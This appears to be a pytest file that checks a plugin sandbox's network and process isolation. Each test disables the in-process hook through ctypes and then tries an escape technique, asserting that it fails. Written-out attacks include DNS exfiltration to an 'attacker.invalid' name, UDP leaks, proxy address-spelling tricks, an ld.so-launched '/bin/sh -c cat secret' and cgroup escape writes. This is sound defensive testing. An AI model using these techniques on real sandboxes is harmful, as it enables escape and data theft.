"""The network and process wall with the in-child hook switched off, in `process` and `container`.

One untrusted Python plugin (granted ``native: true`` so it can switch its hook off with a
ctypes write, and two host services by name: ``127.0.0.1:<http>`` and ``localhost:<http>``)
runs every technique of issue 14 in both sandboxes. Each attack first switches the hook off
and proves it is off, so what stops it is the kernel (network namespace, seccomp, Landlock,
mount namespace) or the host's egress proxy. Each test passes only when the attack fails
AND an honest control in the same test works: the granted host answers through the proxy,
the sink really receives what the host sends it, the host really listens on 127.0.0.2.
"""

from __future__ import annotations

import errno
import http.server
import json
import os
import socket
import sys
import textwrap
import threading
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "sandbox"))

from promptline.loaders._process import ContainerLoader, ProcessLoader, landlock_abi  # noqa: E402
from promptline.loaders._process._launch import bwrap_path  # noqa: E402
from promptline.loaders._process._wall import netns_problem  # noqa: E402

if not sys.platform.startswith("linux") or landlock_abi() < 4:
    pytest.skip("wall escape tests need Linux with Landlock ABI >= 4", allow_module_level=True)
if netns_problem() is not None:
    pytest.skip(f"no network namespaces here: {netns_problem()}", allow_module_level=True)

from sandbox_helpers import load, write_python_plugin  # noqa: E402

SECRET = "TOPSECRET-WALL-ESCAPE"
GREETING = b"hello from the granted host"

PROBE = '''
def probe(arg):
    ns = {"result": None}
    exec(arg, ns)
    return ns["result"]
'''

HOOK_OFF = '''
import ctypes, os, sys, errno, socket
from promptline.enforcer import _hook
ctypes.pythonapi.Py_IncRef(ctypes.py_object(None))
ctypes.pythonapi.PyList_SetItem(ctypes.py_object(_hook.BOX), ctypes.c_ssize_t(0), ctypes.py_object(None))
assert _hook.BOX[0] is None
open("/usr/lib/os-release").read()   # the policy refuses this read; the kernel allows it
socket.getaddrinfo = getattr(socket.getaddrinfo, "__wrapped__", socket.getaddrinfo)   # unwrap the
socket.gethostbyname = getattr(socket.gethostbyname, "__wrapped__", socket.gethostbyname)   # DNS memory
def attempt(fn, *a, **k):
    try:
        return ("ok", repr(fn(*a, **k))[:200])
    except OSError as e:
        return ("refused", e.errno, type(e).__name__)
'''

PRELUDE = HOOK_OFF + '''
_getenv = ctypes.CDLL(None).getenv
_getenv.restype = ctypes.c_char_p
PROXY = int(_getenv(b"HTTPS_PROXY").decode().rpartition(":")[2])   # os.environ is guarded
def connect_via_proxy(target):
    s = socket.create_connection(("127.0.0.1", PROXY), timeout=10)
    s.sendall(b"CONNECT " + target.encode() + b" HTTP/1.1\\r\\nHost: " + target.encode() + b"\\r\\n\\r\\n")
    head = s.recv(4096)
    if not head.startswith(b"HTTP/1.1 200"):
        s.close()
        return head.split(b"\\r\\n")[0].decode()
    s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
    body = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        body += chunk
    s.close()
    return body.decode(errors="replace")
'''

POLICY = """\
apiVersion: promptline/v1
kind: Policy
layer: org
settings:
  sandbox_minimum: process
rules: []
"""


class _Hello(http.server.BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802 - http.server's name
        self.send_response(200)
        self.send_header("Content-Length", str(len(GREETING)))
        self.end_headers()
        self.wfile.write(GREETING)

    def log_message(self, *a):
        pass


@pytest.fixture(scope="module")
def services():
    """Real host services: an HTTP server on every address (so 127.0.0.2 reaches it too), a
    UDP sink, and a TCP listener the plugin is not granted."""
    httpd = http.server.ThreadingHTTPServer(("0.0.0.0", 0), _Hello)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.bind(("127.0.0.1", 0))
    ungranted = socket.socket()
    ungranted.bind(("0.0.0.0", 0))
    ungranted.listen(8)
    ungranted.settimeout(0.3)
    yield {"http": httpd.server_address[1], "sink": sink, "ungranted": ungranted}
    httpd.shutdown()
    sink.close()
    ungranted.close()


@pytest.fixture(scope="module", params=["process", "container"])
def attacker(request, tmp_path_factory, services):
    level = request.param
    if level == "container" and bwrap_path() is None:
        pytest.skip("bubblewrap (bwrap) is not installed; .ci/run installs it")
    tmp = tmp_path_factory.mktemp(f"wall-{level}")
    (tmp / "out").mkdir()
    (tmp / "secret").mkdir()
    (tmp / "secret" / "key.txt").write_text(SECRET)
    policy = tmp / "policy.yaml"
    policy.write_text(POLICY)
    port = services["http"]
    root = write_python_plugin(tmp / "plugins", f"wall-{level}", PROBE, write=[str(tmp / "out")],
                               network=[f"127.0.0.1:{port}", f"localhost:{port}"], native=True,
                               env=["HTTPS_PROXY"],
                               sandbox=level)
    loader = ContainerLoader() if level == "container" else ProcessLoader()
    loaded = load(root, tmp, loader=loader, policy_files=(policy,), options={"rlimits": {"NPROC": 16}})
    loaded.extras.update(tmp=tmp, level=level, **services)
    yield loaded
    loaded.plugin.shutdown()


def attack(attacker, code: str, **fmt):
    tmp = attacker.extras["tmp"]
    values = {"secret": str(tmp / "secret" / "key.txt"), "out": str(tmp / "out"),
              "http": attacker.extras["http"], "sink": attacker.extras["sink"].getsockname()[1],
              "ungranted": attacker.extras["ungranted"].getsockname()[1], **fmt}
    body = PRELUDE + textwrap.dedent(code).format(**values)
    r = attacker.plugin.call_tool("run", {"arg": body}, timeout=60)
    assert r.ok, r.content
    assert SECRET not in repr(r.data), "the secret reached the plugin"
    return r.data


def audit_records(attacker) -> list[dict]:
    return [json.loads(line) for line in attacker.audit_path.read_text().splitlines() if line.strip()]


def refusals(attacker, needle: str) -> list[dict]:
    return [r for r in audit_records(attacker) if r.get("decision") == "deny" and needle in json.dumps(r)
            and (r.get("plugin") or {}).get("id") == attacker.plugin.id]


def assert_sink_empty(sink: socket.socket) -> None:
    """Nothing reached the UDP sink; then prove the sink does receive (the control)."""
    sink.settimeout(0.3)
    with pytest.raises(socket.timeout):
        sink.recvfrom(512)
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.sendto(b"control", sink.getsockname())
    probe.close()
    assert sink.recvfrom(512)[0] == b"control"


def test_the_proxy_with_the_hook_on(attacker):
    """First, while the hook is still on (every later test switches it off for good): the
    in-child enforcer lets the plugin reach its proxy (the host decides the target there)
    and still refuses a direct connect to a host the policy does not name."""
    port = attacker.extras["http"]
    code = f"""
import os, socket
proxy = int(os.environ["HTTPS_PROXY"].rpartition(":")[2])
s = socket.create_connection(("127.0.0.1", proxy), timeout=10)
s.sendall(b"CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n")
head = s.recv(100).decode()
s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
body = b""
while chunk := s.recv(4096):
    body += chunk
try:
    socket.create_connection(("127.0.0.2", {port}), timeout=5)
    other = "reached"
except Exception as e:
    other = type(e).__name__
result = [head, body.decode(), other]"""
    r = attacker.plugin.call_tool("run", {"arg": code}, timeout=60)
    assert r.ok, r.content
    head, body, other = r.data
    assert head.startswith("HTTP/1.1 200") and body.endswith(GREETING.decode())
    assert other == "PolicyViolation"


def test_the_granted_host_answers_through_the_proxy(attacker):
    """The control of every test below: with the hook off, a plain-HTTP proxied GET, a raw
    CONNECT and a name the proxy resolves itself all reach the granted host."""
    out = attack(attacker, """
        import http.client
        c = http.client.HTTPConnection("127.0.0.1", PROXY, timeout=10)
        c.request("GET", "http://127.0.0.1:{http}/")
        result = [c.getresponse().read().decode(),
                  connect_via_proxy("127.0.0.1:{http}"), connect_via_proxy("localhost:{http}")]""")
    assert out[0] == GREETING.decode()
    assert out[1].endswith(GREETING.decode()) and out[2].endswith(GREETING.decode())


def test_only_loopback_in_the_child(attacker):
    out = attack(attacker, "result = [l.split(':')[0].strip() for l in open('/proc/self/net/dev').readlines()[2:]]")
    assert out == ["lo"]
    assert len(open("/proc/self/net/dev").readlines()[2:]) >= 1   # the host's own list, for comparison


def test_dns_exfiltration_inside_connect(attacker):
    """`connect(("<data>.attacker.tld", 80))` resolves in C before any audit event: no
    resolver packet may leave, and the name does not resolve at all."""
    out = attack(attacker, """
        def leak():
            s = socket.socket()
            s.settimeout(5)
            s.connect(("exfil-{tag}.attacker.invalid", 80))
        try:
            leak(); result = "connected"
        except socket.gaierror as e:
            result = ["gaierror", e.errno]
        except OSError as e:
            result = ["refused", e.errno]""", tag="a1b2c3")
    assert out != "connected"
    assert_sink_empty(attacker.extras["sink"])
    # the resolver's UDP socket was refused by seccomp, and the host recorded it for this plugin
    assert refusals(attacker, "type=2"), "the seccomp refusal of the resolver's UDP socket is not in the audit log"
    assert attack(attacker, 'result = connect_via_proxy("127.0.0.1:{http}")').endswith(GREETING.decode())


def test_getaddrinfo_dns_is_refused(attacker):
    out = attack(attacker, "result = attempt(socket.getaddrinfo, 'leak-getaddrinfo.example.com', 443)")
    assert out[0] != "ok"
    assert_sink_empty(attacker.extras["sink"])
    assert attack(attacker, 'result = connect_via_proxy("localhost:{http}")').endswith(GREETING.decode())


def test_udp_to_any_host_and_port(attacker):
    out = attack(attacker, """
        def send(family, addr):
            s = socket.socket(family, socket.SOCK_DGRAM)
            s.sendto(b"leak", addr)
        result = [attempt(send, socket.AF_INET, ("127.0.0.1", {sink})),
                  attempt(send, socket.AF_INET6, ("::1", {sink})),
                  attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)]""")
    assert all(o[0] == "refused" and o[1] == errno.EPERM for o in out), out
    assert_sink_empty(attacker.extras["sink"])


def test_inbound_backdoor_listen_without_bind(attacker):
    out = attack(attacker, """
        s = socket.socket()
        result = [attempt(s.listen), attempt(lambda: socket.create_server(("0.0.0.0", 0)))]""")
    assert all(o[0] == "refused" for o in out), out
    assert out[0][1] == errno.EPERM
    assert refusals(attacker, "listen")
    assert attack(attacker, 'result = connect_via_proxy("127.0.0.1:{http}")').endswith(GREETING.decode())


def test_tcp_fast_open_and_mptcp_to_a_forbidden_port(attacker):
    out = attack(attacker, """
        MSG_FASTOPEN = 0x20000000
        def tfo():
            s = socket.socket()
            s.sendto(b"GET / HTTP/1.0\\r\\n\\r\\n", MSG_FASTOPEN, ("127.0.0.1", {ungranted}))
        def tfo_connect():
            s = socket.socket()
            s.setsockopt(socket.IPPROTO_TCP, 30, 1)   # TCP_FASTOPEN_CONNECT
        def mptcp():
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)   # IPPROTO_MPTCP
            s.connect(("127.0.0.1", {ungranted}))
        result = [attempt(tfo), attempt(tfo_connect), attempt(mptcp)]""")
    assert all(o[0] == "refused" and o[1] == errno.EPERM for o in out), out
    with pytest.raises(socket.timeout):
        attacker.extras["ungranted"].accept()
    control = socket.create_connection(("127.0.0.1", attacker.extras["ungranted"].getsockname()[1]))
    attacker.extras["ungranted"].accept()[0].close()   # the host really listens there
    control.close()


def test_any_host_on_a_granted_port(attacker):
    """Landlock's port rules would let 127.0.0.2:<granted port> through; the namespace has no
    route and the proxy refuses every host the policy does not name, in every spelling."""
    port = attacker.extras["http"]
    direct = socket.create_connection(("127.0.0.2", port), timeout=5)   # the host is really there
    direct.close()
    out = attack(attacker, """
        def direct():
            s = socket.socket(); s.settimeout(5); s.connect(("127.0.0.2", {http}))
        result = [attempt(direct)] + [connect_via_proxy(t + ":{http}") for t in
                  ("127.0.0.2", "2130706434", "127.2", "0x7f.0.0.2", "[::ffff:127.0.0.2]", "127.0.0.2.")]""")
    assert out[0][0] == "refused", out
    assert all(o.startswith("HTTP/1.1 403") for o in out[1:]), out
    assert refusals(attacker, "127.0.0.2")
    assert attack(attacker, 'result = connect_via_proxy("127.0.0.1:{http}")').endswith(GREETING.decode())


def test_socks5_cannot_choose_the_address_behind_a_name(attacker):
    """SOCKS5 with the granted name works (the proxy resolves it); an address the policy does
    not name is refused even on the granted port."""
    out = attack(attacker, """
        import struct
        def socks(atyp, addr):
            s = socket.create_connection(("127.0.0.1", PROXY), timeout=10)
            s.sendall(b"\\x05\\x01\\x00")
            assert s.recv(2) == b"\\x05\\x00"
            s.sendall(b"\\x05\\x01\\x00" + bytes([atyp]) + addr + struct.pack(">H", {http}))
            rep = s.recv(10)
            if rep[1] != 0:
                return ["refused", rep[1]]
            s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            data = b""
            while chunk := s.recv(4096):
                data += chunk
            return ["ok", data.decode()]
        result = [socks(3, bytes([9]) + b"localhost"), socks(1, socket.inet_aton("127.0.0.2")),
                  socks(3, bytes([9]) + b"127.0.0.2")]""")
    assert out[0][0] == "ok" and out[0][1].endswith(GREETING.decode())
    assert out[1] == ["refused", 2] and out[2] == ["refused", 2]


def test_dynamic_loader_runs_no_binary(attacker):
    """`ld.so /bin/sh -c ...` through fork_exec: Landlock must grant EXECUTE on ld.so for the
    plugin's own interpreter; the exec guard refuses every exec after the plugin's own."""
    leak = attacker.extras["tmp"] / "out" / "leak-ldso"
    out = attack(attacker, """
        import _posixsubprocess, glob, subprocess
        loader = sorted(glob.glob("/lib64/ld-linux-x86-64.so.2") + glob.glob("/lib/*/ld-linux-x86-64.so.2"))[0]
        argv = [loader.encode(), b"/bin/sh", b"-c", b"cat {secret} > {out}/leak-ldso; echo ran > {out}/leak-ldso"]
        r, w = os.pipe()
        try:
            pid = _posixsubprocess.fork_exec(argv, [loader.encode()], True, (w,), None, None, -1, -1, -1, -1,
                                             -1, -1, r, w, True, False, -1, None, None, None, -1, None, False)
        except TypeError:   # another CPython's signature: the same exec through subprocess
            try:
                pid = subprocess.Popen([a.decode() for a in argv]).pid
            except OSError as e:
                pid = None
                os.write(w, b"OSError:%x:" % e.errno)
        os.close(w)
        err = b""
        while chunk := os.read(r, 4096):
            err += chunk
        if pid:
            os.waitpid(pid, 0)
        result = ["exec refused", err.decode()] if err else ["ran", pid]""")
    assert not leak.exists()
    assert out[0] == "exec refused" and out[1].startswith("OSError:d"), out   # 0xd: EACCES
    assert refusals(attacker, "ld-linux"), "the refused exec is not in the audit log"
    # control: the plugin still runs code and forks (fork is not exec)
    assert attack(attacker, "pid = os.fork()\nif pid == 0: os._exit(5)\nresult = os.waitpid(pid, 0)[1] >> 8") == 5


def test_rlimit_nproc_binds_even_for_a_root_host(attacker):
    out = attack(attacker, """
        import time
        kids, err = [], None
        for _ in range(64):
            try:
                pid = os.fork()
            except OSError as e:
                err = e.errno
                break
            if pid == 0:
                time.sleep(30); os._exit(0)
            kids.append(pid)
        for k in kids:
            os.kill(k, 9); os.waitpid(k, 0)
        result = [len(kids), err, os.getresuid()[0], os.geteuid(), open("/proc/self/cgroup").read()]""")
    started, err, ruid, euid, cgroup = out
    assert err == errno.EAGAIN and 1 <= started < 16, out   # the first forks work: the limit, not a ban
    if os.geteuid() != 0:
        assert ruid == euid != 0
        return
    from promptline.loaders._process import _pids
    if _pids._own_pids_dir() is not None:
        # a pids cgroup of its own counts its processes: the real uid stays the effective
        # one (root), so access(2) agrees with open(2)
        assert ruid == euid == 0 and f"promptline-{os.getpid()}/" in cgroup, out
    else:   # a real uid of its own: no other plugin's processes in its count
        from promptline.loaders._process._launch import UNPRIVILEGED_UIDS
        assert UNPRIVILEGED_UIDS[0] <= ruid <= UNPRIVILEGED_UIDS[1] and euid == 0, out


def test_the_pids_cgroup_cannot_be_left_or_raised(attacker):
    """A root host's child counts its processes in a pids cgroup of its own: writing its
    ``pids.max``, moving itself into its parent's or the root's ``cgroup.procs``, making a
    sub-group — each is a write into the cgroup filesystem, which Landlock refuses."""
    attack(attacker, "result = 1")   # started: its group exists
    group = getattr(attacker.plugin.child._proc, "pids_group", None)
    if group is None:
        pytest.skip("this host gives its children no pids cgroup (not root, or no writable pids controller)")
    here = Path(group.path)
    before = (here / "pids.max").read_text()
    out = attack(attacker, """
        import os
        def write(path, text):
            try:
                fd = os.open(path, os.O_WRONLY)
                try:
                    os.write(fd, text.encode())
                finally:
                    os.close(fd)
                return "written"
            except OSError as e:
                return errno.errorcode.get(e.errno, e.errno)
        def mkdir(path):
            try:
                os.mkdir(path)
                return "made"
            except OSError as e:
                return errno.errorcode.get(e.errno, e.errno)
        tries = [write("{here}/pids.max", "max"), write("{here}/cgroup.procs", "0"),
                 write("{parent}/cgroup.procs", "0"), write("{top}/cgroup.procs", "0"),
                 write("{top}/tasks", "0"), mkdir("{here}/escape"),
                 write("/proc/self/cgroup", "0")]
        result = [tries, open("/proc/self/cgroup").read()]""",
                 here=here, parent=here.parent.parent, top=_mount_of(here))
    tries, cgroup = out
    assert all(t in ("EACCES", "ENOENT", "EROFS", "EPERM", "EINVAL") for t in tries), tries
    assert f"{here.parent.name}/{here.name}" in cgroup, cgroup   # still in its own group
    assert (here / "pids.max").read_text() == before and not (here / "escape").exists()
    # control: the plugin still forks (the count binds, it is no ban)
    assert attack(attacker, "pid = os.fork()\nif pid == 0: os._exit(3)\nresult = os.waitpid(pid, 0)[1] >> 8") == 3


def _mount_of(path: Path) -> str:
    """The mount point of the cgroup hierarchy holding ``path``."""
    from promptline.loaders._process import _pids
    return max((m for m in _pids.mount_points() if str(path).startswith(m + "/")), key=len)


def test_stat_metadata_and_hostname(attacker):
    """`os.stat` of any path and `os.uname()`: stopped by the container level only (the
    process level documents the leak in the README's sandbox table)."""
    out = attack(attacker, """
        def st(p):
            s = os.stat(p); return [s.st_size, s.st_ino]
        result = [attempt(st, {secret!r}), attempt(st, "/etc/passwd"), attempt(st, os.path.expanduser("~root")),
                  os.uname().nodename, attempt(st, {out!r})]""")
    secret_stat, passwd, root_home, hostname, control = out
    assert control[0] == "ok"   # a granted path is there
    if attacker.extras["level"] == "container":
        assert secret_stat[:2] == ["refused", errno.ENOENT] and passwd[:2] == ["refused", errno.ENOENT]
        assert hostname == "promptline" != socket.gethostname()
    else:
        assert secret_stat[0] == "ok" and hostname == socket.gethostname()   # the honest limit of `process`


def test_the_forwarder_cannot_be_signalled_or_traced(attacker):
    """The forwarder runs outside the plugin's Landlock domain: the plugin cannot kill it to
    take its listening socket, nor ptrace it."""
    out = attack(attacker, """
        # in both levels the plugin is pid 2 of its own PID namespace: pid 1 is the
        # namespace's init, pid 3 the forwarder (the plugin's only child)
        own = open("/proc/self/stat").read().split()[0]
        kids = open("/proc/self/task/%s/children" % own).read().split()
        result = [os.getpid(), len(kids), [attempt(os.kill, p, 9) for p in (1, 3)], attempt(os.kill, 2, 0)]""")
    me, nkids, kills, self_signal = out
    assert me == 2 and nkids == 1, out
    assert all(k[0] == "refused" and k[1] == errno.EPERM for k in kills), out
    assert self_signal[0] == "ok"   # the control: signalling itself works
    assert attack(attacker, 'result = connect_via_proxy("127.0.0.1:{http}")').endswith(GREETING.decode())


@pytest.mark.parametrize("level", ["process", "container"])
def test_a_setsid_grandchild_dies_with_the_plugin(tmp_path_factory, level):
    """`setsid()` and fork: the grandchild leaves the plugin's process group. The plugin's
    PID namespace ends with it, so the grandchild stops (its heartbeat file stops growing);
    the control is that it really beat while the plugin was up."""
    if level == "container" and bwrap_path() is None:
        pytest.skip("bubblewrap (bwrap) is not installed; .ci/run installs it")
    import time
    tmp = tmp_path_factory.mktemp(f"wall-setsid-{level}")
    (tmp / "out").mkdir()
    beat = tmp / "out" / "beat"
    root = write_python_plugin(tmp / "plugins", "wall-setsid", PROBE, write=[str(tmp / "out")], native=True,
                               sandbox=level)
    loaded = load(root, tmp, loader=ContainerLoader() if level == "container" else ProcessLoader())
    code = HOOK_OFF + textwrap.dedent(f"""
        import time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                fd = os.open({str(beat)!r}, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
                while True:
                    os.write(fd, b"."); time.sleep(0.05)
            os._exit(0)
        result = "started"
    """)
    r = loaded.plugin.call_tool("run", {"arg": code}, timeout=60)
    assert r.ok and r.data == "started", r.content
    deadline = time.monotonic() + 10
    while (not beat.exists() or beat.stat().st_size < 3) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert beat.stat().st_size >= 3, "the grandchild never ran"
    loaded.plugin.shutdown()
    time.sleep(0.3)
    size = beat.stat().st_size
    time.sleep(0.5)
    assert beat.stat().st_size == size, f"the setsid grandchild outlived the plugin ({level})"
